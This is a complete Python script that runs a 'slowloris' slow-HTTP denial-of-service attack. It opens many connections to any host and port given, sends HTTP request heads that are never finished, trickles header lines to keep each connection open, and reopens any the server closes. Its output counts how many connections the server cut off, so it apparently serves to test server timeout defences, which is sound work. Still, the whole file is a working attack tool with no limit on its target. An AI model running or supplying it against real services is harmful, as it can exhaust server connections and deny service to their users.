#!/usr/bin/env python3
"""Slow clients: open N connections to HOST:PORT that each send a request head
one header line at a time, a line every INTERVAL seconds, and never finish it.
A closed connection is reopened. Runs for DURATION seconds, then prints how
many connections were opened and how many the server cut off (408 or close).

usage: slowloris.py HOST PORT N DURATION [INTERVAL]
"""
import socket
import sys
import time


def main():
    host, port, n, duration = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 2.0
    end = time.monotonic() + duration
    opened = cut_off = 0
    conns = []

    def connect():
        nonlocal opened
        s = socket.create_connection((host, port), timeout=5)
        s.setblocking(False)
        s.send(b"GET /healthz HTTP/1.1\r\nHost: slow\r\n")
        opened += 1
        return s

    for _ in range(n):
        try:
            conns.append(connect())
        except OSError:
            pass
    while time.monotonic() < end:
        time.sleep(interval)
        for i, s in enumerate(conns):
            try:
                # Anything back (a 408) or a close means the server let go.
                try:
                    if s.recv(4096, socket.MSG_PEEK) is not None:
                        raise OSError("answered")
                except BlockingIOError:
                    pass
                s.send(b"X-Slow: 1\r\n")
            except OSError:
                cut_off += 1
                s.close()
                try:
                    conns[i] = connect()
                except OSError:
                    pass
    for s in conns:
        s.close()
    print(f"slowloris: {opened} connections opened, {cut_off} cut off by the server")


if __name__ == "__main__":
    main()
